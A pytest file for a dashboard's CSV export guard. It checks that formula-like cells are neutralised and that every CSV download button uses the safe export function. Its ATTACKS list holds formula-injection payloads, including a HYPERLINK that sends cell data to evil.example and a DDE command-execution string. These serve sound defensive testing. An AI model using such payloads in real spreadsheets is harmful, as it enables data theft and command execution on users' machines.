"""Issue 36: the CSVs the dashboard offers for download never carry a cell a spreadsheet would run as a formula
(group values come from other people's labels files), and every CSV download button goes through the one
function that sees to it."""

from __future__ import annotations

import ast
import io
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from agegender.fairness.tables import NEUTRALISE, csv_download, safe_cell

from ..conftest import ROOT

ATTACKS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "@SUM(A1:A9)", "-2+3", "=cmd|' /C calc'!A0",
           "\tx", "\r=1+1", " =1+1", "-", "=", "+"]
DATA = ["-3.5", "+2", "1e-3", "-.5", "3", "", "a=b", "Latino_Hispanic", "–", "20-29", "more than 70", "x@y.org"]


@pytest.mark.parametrize("text", ATTACKS)
def test_a_formula_is_neutralised(text):
    assert safe_cell(text) == NEUTRALISE + text


@pytest.mark.parametrize("value", [*DATA, -3.5, 2, np.int64(-4), np.float32(-1.5), True, None, float("nan")])
def test_numbers_and_plain_text_stay_as_they_are(value):
    assert safe_cell(value) is value


def test_the_csv_neutralises_cells_and_column_names_and_keeps_figures():
    df = pd.DataFrame({
        "group": ATTACKS[:5] + ["-3.5", "White"],
        "=1+1": range(7),  # a group column named by a labels file's header
        "gap": [-3.5, 0.25, -1.0, np.nan, 2.0, -0.5, 1.5],
        "race": pd.Categorical(["@x"] * 6 + ["Black"]),
    })
    text = csv_download(df)
    back = pd.read_csv(io.StringIO(text), dtype=str, keep_default_na=False)
    assert list(back.columns) == ["group", "'=1+1", "gap", "race"]
    assert list(back["group"]) == ["'" + a for a in ATTACKS[:5]] + ["-3.5", "White"]
    assert list(back["race"]) == ["'@x"] * 6 + ["Black"]
    assert list(back["gap"]) == ["-3.5", "0.25", "-1.0", "", "2.0", "-0.5", "1.5"]  # numbers untouched
    assert list(back["'=1+1"]) == [str(i) for i in range(7)]
    assert df.loc[0, "group"] == ATTACKS[0]  # the page's own frame is not changed
    first_cells = [line.split(",")[0].lstrip('"') for line in text.splitlines()[1:]]
    assert not any(c.lstrip(" ").startswith(("=", "+", "@", "\t", "\r")) for c in first_cells)


# ---- every CSV download button goes through csv_download ----------------------------------------------------

def _is_csv(call: ast.Call) -> bool:
    """A download_button offering a CSV: its MIME type or its file name says so."""
    for node in ast.walk(call):
        if isinstance(node, ast.Constant) and isinstance(node.value, str):
            if node.value == "text/csv" or node.value.lower().endswith(".csv"):
                return True
    return False


def _data_arg(call: ast.Call) -> ast.AST | None:
    for k in call.keywords:
        if k.arg == "data":
            return k.value
    return call.args[1] if len(call.args) > 1 else None


def _through_csv_download(node: ast.AST | None) -> bool:
    func = node.func if isinstance(node, ast.Call) else None
    return (isinstance(func, ast.Name) and func.id == "csv_download") or \
        (isinstance(func, ast.Attribute) and func.attr == "csv_download")


def csv_buttons(source: str, name: str) -> list[tuple[str, bool]]:
    """(where, goes through csv_download) for every download_button offering a CSV in ``source``."""
    out = []
    for node in ast.walk(ast.parse(source)):
        if isinstance(node, ast.Call) and isinstance(node.func, (ast.Attribute, ast.Name)) and \
                getattr(node.func, "attr", getattr(node.func, "id", None)) == "download_button" and _is_csv(node):
            out.append((f"{name}:{node.lineno}", _through_csv_download(_data_arg(node))))
    return out


def test_every_csv_download_in_the_dashboard_goes_through_csv_download():
    found = [b for p in sorted((ROOT / "dashboard").rglob("*.py"))
             for b in csv_buttons(p.read_text(encoding="utf-8"), str(p.relative_to(ROOT)))]
    bypass = [where for where, ok in found if not ok]
    assert not bypass, f"these CSV downloads skip agegender.fairness.tables.csv_download: {bypass}"
    pages = {Path(where.split(":")[0]).name for where, _ in found}
    assert len(found) >= 5 and pages >= {"bias.py", "evalsets.py", "gender.py", "predict.py"}  # not blind


def test_the_check_catches_a_csv_download_that_bypasses_it():
    bad = ('st.download_button("T", df.to_csv(index=False), "t.csv", "text/csv")\n'
           'd1.download_button(label="T", data=df.to_csv(), file_name=f"{x}.csv")\n'
           'st.download_button("T", tables.csv_download(df), "t.csv", "text/csv")\n'
           'st.download_button("J", to_json(r), "r.json", "application/json")\n')
    assert csv_buttons(bad, "x.py") == [("x.py:1", False), ("x.py:2", False), ("x.py:3", True)]
